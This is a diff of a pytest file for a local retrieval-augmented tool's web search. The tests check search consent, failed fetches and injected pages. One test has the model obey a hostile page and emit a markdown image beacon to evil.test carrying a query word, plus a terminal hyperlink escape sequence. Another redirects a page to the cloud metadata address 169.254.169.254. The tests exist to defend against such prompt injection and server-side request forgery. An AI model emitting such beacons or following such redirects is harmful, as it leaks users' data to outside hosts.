@@ -1,4 +1,4 @@
-"""The web through the graphs: stand-ins for search engine and pages; the real ddgs, fetcher, reader and graphs."""
+"""The web through the graphs: stand-ins for search and pages; the real fetcher, reader and graphs."""
 
 from __future__ import annotations
 
@@ -15,11 +15,11 @@ from support.ollama_engine import engine_on
 from support.ollama_mind import mind
 from support.screen import shown
 from support.shipped_evaluator import shipped_evaluator
-from support.web_server import SearchPage, WebServer, html, loopback, redirect
+from support.web_server import SearchProcess, WebServer, html, loopback, redirect
 
 from local_rag.cli.options import with_web
 from local_rag.config.settings import Settings
-from local_rag.core import cancel
+from local_rag.core import cancel, child_process
 from local_rag.core.errors import UsageError
 from local_rag.core.events import Note
 from local_rag.core.verdicts import Graded, Route
@@ -28,7 +28,6 @@ from local_rag.index.parse.parser import Parser
 from local_rag.runtime.opening import open_web
 from local_rag.terminal.answers import answer_parts
 from local_rag.web import pages as reading
-from local_rag.web import search
 from local_rag.web.pages import read_page
 from local_rag.web.search import DdgsSearch
 
@@ -56,9 +55,10 @@ def pages():
 
 
 @pytest.fixture
-def results(pages):
-    with SearchPage(("Draft", pages.url("/draft"), "A snippet about the draft.")) as server:
-        yield server
+def searching(pages, monkeypatch):
+    process = SearchProcess(("Draft", pages.url("/draft"), "A snippet about the draft."))
+    monkeypatch.setattr(child_process, "run", process.run)
+    return process
 
 
 @pytest.fixture(scope="module")
@@ -68,23 +68,21 @@ def worker():
 
 
 @pytest.fixture
-def answering(results, pages, worker, tmp_path, ollama, monkeypatch):
+def answering(searching, pages, worker, tmp_path, ollama, monkeypatch):
     """A function (engine, graph, …) -> Rag over private passages, the stand-ins and the scripted model."""
     read = partial(read_page, seconds=5, addresses=loopback(pages))
-    monkeypatch.setattr(search, "COMMAND", results.command)
     monkeypatch.setattr(reading, "Parser", lambda seconds: nullcontext(worker))  # each test reads one page
     ollama.always = lambda body: '{"d": "web_search"}' if "Choose where" in str(body) else mind(body)
 
-    def opened(engine, graph, files_first=False, **flags):
+    def opened(engine, graph, quotes=ExtractiveEngine):
         corpus = FakeCorpus([passage(number, f"{PRIVATE} {number}", score=0.1) for number in range(1, 9)])
-        kind = FilesFirst if files_first else ExtractiveEngine
-        engine = engine or kind(remembering_minilm(), shipped_evaluator(), corpus)
-        rag = asking.opened(engine, corpus, graph=graph, web__enabled="on", **flags)
+        quoting = quotes(remembering_minilm(), shipped_evaluator(), corpus)
+        rag = asking.opened(model if engine == "ollama" else quoting, corpus, graph=graph, web__enabled="on")
         rag.web = DdgsSearch(rag.settings.values.web, tmp_path, read)
         return rag
 
     with engine_on(ollama) as model:
-        yield lambda which, graph, **flags: opened(model if which == "ollama" else None, graph, **flags)
+        yield opened
 
 
 def answered(rag, **options):
@@ -93,24 +91,24 @@ def answered(rag, **options):
 
 
 @pytest.mark.parametrize(("engine", "graph"), [("ollama", "crag"), ("extractive", "adaptive")])
-def test_the_tutorials_web_question_is_answered_from_the_web(answering, results, engine, graph):
+def test_the_tutorials_web_question_is_answered_from_the_web(answering, searching, engine, graph):
     answer, events = answered(answering(engine, graph))
     assert answer.status == "grounded", answer
     assert "Caleb Williams" in answer.text
     assert answer.used_web
     assert {one.origin for one in answer.citations} == {"web"}
     assert answer.citations[0].url.endswith("/draft")
-    assert len(results.asked) == 1
+    assert len(searching.requests) == 1
     assert [event.verdict for event in events if isinstance(event, Graded) and event.kind == "web"] == ["relevant"]
 
 
 @pytest.mark.parametrize("consent", [True, False])
-def test_adaptive_goes_from_the_files_to_the_web_only_with_consent(answering, results, consent):
-    rag, shown_first = answering("extractive", "adaptive", files_first=True), []
+def test_adaptive_goes_from_the_files_to_the_web_only_with_consent(answering, searching, consent):
+    rag, shown_first = answering("extractive", "adaptive", FilesFirst), []
     answer, _ = answered(rag, may_search=lambda query: shown_first.append(query.query) or consent)
     assert between(answer.path).startswith("route_question retrieve grade_documents web_search")
     assert shown_first == [DRAFT], "the person's own words, before anything leaves"
-    assert [asked["q"] for asked in results.asked] == shown_first * consent
+    assert searching.queries == shown_first * consent
     assert answer.used_web is consent
     assert answer.status == ("grounded" if consent else "abstained")
 
@@ -130,17 +128,17 @@ def test_consent_holds_for_one_question_of_a_shared_rag():
     assert not list(refused)[-1].answer.used_web
 
 
-def test_a_page_that_cannot_be_read_costs_a_note_and_leaves_its_snippet(answering, pages, results):
+def test_a_page_that_cannot_be_read_costs_a_note_and_leaves_its_snippet(answering, pages, searching):
     pages.pages["/draft"] = redirect("http://169.254.169.254/latest/meta-data/")
-    results.results = [("Draft", pages.url("/draft"), ANSWER)]
+    searching.results = [("Draft", pages.url("/draft"), ANSWER)]
     answer, events = answered(answering("extractive", "crag"))
     assert answer.status == "grounded" and "Caleb Williams" in answer.text
     (note,) = [event.text for event in events if isinstance(event, Note)]
     assert "169.254.169.254" in note and "its snippet is used" in note
 
 
-def test_a_search_that_fails_is_a_note_and_an_honest_answer(answering, results):
-    results.statuses = [500]
+def test_a_search_that_fails_is_a_note_and_an_honest_answer(answering, searching):
+    searching.status = 500
     answer, events = answered(answering("extractive", "crag"))
     assert answer.status == "abstained"
     assert any(isinstance(event, Note) for event in events)
@@ -204,7 +202,7 @@ def test_the_web_option_may_stand_alone(given, read):
     assert with_web(given) == read
 
 
-def test_a_model_that_obeys_a_page_can_only_write_and_is_not_believed(answering, pages, results, ollama):
+def test_a_model_that_obeys_a_page_can_only_write_and_is_not_believed(answering, pages, searching, ollama):
     """Its images and links are text, nothing that it names is fetched, and its sentence is not grounded."""
     link = "\x1b]8;;https://evil.test\x07Click\x1b]8;;\x07"
     evil = f"![x](https://evil.test/?q=Marabou) {link} [here](https://evil.test) [1]"
@@ -216,4 +214,4 @@ def test_a_model_that_obeys_a_page_can_only_write_and_is_not_believed(answering,
     screen = "\n".join(shown(*answer_parts(answer), width=100, colour=True))
     assert not re.search("\x1b]8;[^;]*;https://evil.test", screen)
     assert [request.path for request in pages.requests] == ["/draft"]
-    assert "Marabou" not in str(results.asked), "what a passage says never becomes a query"
+    assert "Marabou" not in str(searching.requests), "what a passage says never becomes a query"
